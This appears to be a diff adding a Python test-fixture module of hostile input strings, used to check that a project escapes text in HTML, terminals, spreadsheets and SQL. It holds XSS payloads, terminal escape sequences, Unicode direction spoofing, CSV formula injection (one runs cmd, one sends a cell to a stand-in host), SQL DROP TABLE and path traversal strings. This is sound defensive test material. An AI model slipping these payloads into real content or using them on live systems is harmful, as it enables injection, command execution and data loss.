@@ -1,0 +1,142 @@
+"""Texts that try to be more than data where a run is shown: in a page, on a terminal, in a spreadsheet, in a database.
+
+Posts, names, attributes and answers of models may hold any of them. Texts that try to instruct a model are in
+`tests/wire/hostile.py`, and those that try to break a prompt in `tests/statechart/test_injection.py`.
+
+Texts that run in a browser all call `HARM`. A page in which such a call has taken place has `window.harmed` set, and a
+file that holds the text outside of an escape has `HARM` beside an unescaped `<`, quote or parenthesis.
+"""
+
+from __future__ import annotations
+
+import re
+
+HARM = "window.harmed=1"
+
+MARKUP = {
+    "script": f"<script>{HARM}</script>",
+    "end_of_script": f"</script><script>{HARM}</script>",
+    "end_of_script_in_capitals": f"</SCRIPT ><ScRiPt>{HARM}</sCrIpT>",
+    "image_that_fails": f"<img src=x onerror={HARM}>",
+    "end_of_attribute": f'" onmouseover="{HARM}" autofocus onfocus="{HARM}',
+    "end_of_single_quoted_attribute": f"' onfocus='{HARM}' autofocus x='",
+    "attribute_without_quotes": f"x onfocus={HARM} autofocus",
+    "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HARM}"><circle r="9"/></svg>',
+    "svg_animation": f"<svg><animate onbegin={HARM} attributeName=x dur=1s></svg>",
+    "end_of_svg_text": f"</text></svg><img src=x onerror={HARM}>",
+    "link": f"javascript:{HARM}",
+    "link_in_anchor": f'<a href="javascript:{HARM}">read more</a>',
+    "link_in_data": f"data:text/html,<script>{HARM}</script>",
+    "markdown_link": f"[read more](javascript:{HARM})",
+    "style": f"<style>*{{display:none}}</style><img src=x onerror={HARM}>",
+    "end_of_style": f"}}</style><script>{HARM}</script>",
+    "css_value": "red;background:url(https://example.org/x);display:none",
+    "comment": f"--><script>{HARM}</script><!--",
+    "start_of_comment": "<!-- <script>",
+    "cdata": f"]]><script>{HARM}</script><![CDATA[",
+    "title": f"</title><script>{HARM}</script>",
+    "textarea": f"</textarea><script>{HARM}</script>",
+    "frame": '<iframe src="https://example.org"></iframe>',
+    "form": '<form action="https://example.org"><button>Sign in</button></form>',
+    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://example.org">',
+    "template": f"{{{{constructor.constructor('{HARM}')()}}}} ${{{HARM}}} <%= {HARM} %> {{0}} %s %(name)s",
+    "end_of_script_string": f"\\';{HARM};//\";{HARM};//`;{HARM};//",
+    "entities": "&lt;b&gt; &amp;lt; &#60;script&#62; &notanentity;",
+    "rich_markup": "[bold red]loud[/] [link=https://example.org]click[/link] [/]",
+}
+"""Texts for whatever makes HTML, SVG, CSS, JavaScript, Markdown or terminal markup of a text."""
+
+TERMINAL = {
+    "colour": "\x1b[31mred\x1b[0m",
+    "clear_screen": "\x1b[2J\x1b[H",
+    "cursor_up_and_erase": "\x1b[1A\x1b[2Knothing to see",
+    "window_title": "\x1b]0;harmed\x07",
+    "hyperlink": "\x1b]8;;https://example.org\x1b\\click\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;aGFybWVk\x07",
+    "device_control": '\x1bP$q"p\x1b\\',
+    "device_report": "\x1b[6n\x1b[c",
+    "reset": "\x1bc",
+    "other_screen": "\x1b[?1049h",
+    "c1_csi": "\x9b31mred\x9b0m",
+    "c1_osc": "\x9d0;harmed\x9c",
+    "carriage_return": "harmless\rHARMED!!",
+    "backspaces": "safe\b\b\b\bevil",
+    "bell": "\x07",
+    "nul": "before\x00after",
+    "delete": "a\x7fb",
+    "form_feed_and_vertical_tab": "a\x0cb\x0bc",
+    "next_line": "a\x85b",
+}
+"""Texts for whatever writes to a terminal: sequences that move, erase, report or rename, in seven bits and in eight."""
+
+UNICODE = {
+    "right_to_left_override": "invoice\u202efdp.exe",
+    "isolates": "\u2066admin\u2069 \u2067reversed\u2069 \u202anested",
+    "zero_width": "ad\u200bmin\u200c\u200d\ufeff\u2060",
+    "line_and_paragraph_separators": "one\u2028two\u2029three",
+    "combining": "Z" + "\u0351\u036b\u0343\u036a" * 20,
+    "wide": "\U0001f469\u200d\U0001f469\u200d\U0001f467 家族 \U0001f1ea\U0001f1fa",
+    "tags": "a\U000e0041\U000e007f",
+    "noncharacter": "\ufffe\uffff",
+    "right_to_left": "\u05e9\u05dc\u05d5\u05dd 123 \u0645\u0631\u062d\u0628\u0627",
+}
+"""Texts whose looks differ from what they are, or whose width is not their length."""
+
+SPREADSHEET = {
+    "formula": "=1+1",
+    "formula_command": "=cmd|' /C calc'!A0",
+    "formula_link": '=HYPERLINK("https://example.org?x="&A1,"click")',
+    "formula_plus": "+1+1",
+    "formula_minus": "-1+1",
+    "formula_at": "@SUM(1,1)",
+    "formula_after_tab": "\t=1+1",
+    "formula_after_return": "\r=1+1",
+    "formula_after_newline": "\n=1+1",
+    "formula_after_space": " =1+1",
+    "formula_full_width": "\uff1d1+1",
+    "formula_after_quote": "'=1+1",
+    "formula_in_next_cell": 'x",=1+1,"y',
+    "formula_after_semicolon": "x;=1+1",
+    "just_a_sign": "-",
+    "apostrophe": "'",
+    "looks_like_number": "007",
+    "looks_like_date": "1-2",
+    "looks_like_nothing": "NULL",
+    "looks_like_nan": "nan",
+}
+"""Texts that a spreadsheet, or a reader of CSV, may take for a formula, a number, a date or nothing."""
+
+OTHER = {
+    "empty": "",
+    "space": " ",
+    "newlines": "one\ntwo\r\nthree\rfour",
+    "quotes": "\"double\" 'single' `back` \u201ccurly\u201d",
+    "comma": "a,b;c\td|e",
+    "sql": "'; DROP TABLE posts; --",
+    "sql_identifier": '"]; DROP TABLE posts; --',
+    "sql_pattern": "100%_\\",
+    "backslashes": "\\n \\x00 \\u202e \\",
+    "path": "../../etc/passwd",
+    "json": '"}],"harmed":true,"x":[{"',
+    "format": "{} {0.__class__} %s %n",
+    "long_word": "a" * 20_000,
+    "long_text": "all work and no play " * 5_000,
+}
+"""Texts for quoting, for queries, and for the width of columns."""
+
+TEXTS: dict[str, str] = {**MARKUP, **TERMINAL, **UNICODE, **SPREADSHEET, **OTHER}
+"""Every text of this module by its name. Each of them can be encoded as UTF-8, so a journal can hold it."""
+
+SURROGATES = {
+    "lone_high_surrogate": "a\ud83db",
+    "lone_low_surrogate": "a\ude00b",
+    "surrogate_escape": "a\udc9bb",
+}
+"""Texts of Python that are no UTF-8, so no journal holds them: for whatever is given texts in memory, or as JSON."""
+
+_UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
+
+
+def harms_a_terminal(shown: str) -> bool:
+    """Return whether a text holds a control, but for newlines and tabs, or an override of direction."""
+    return _UNSAFE.search(shown) is not None
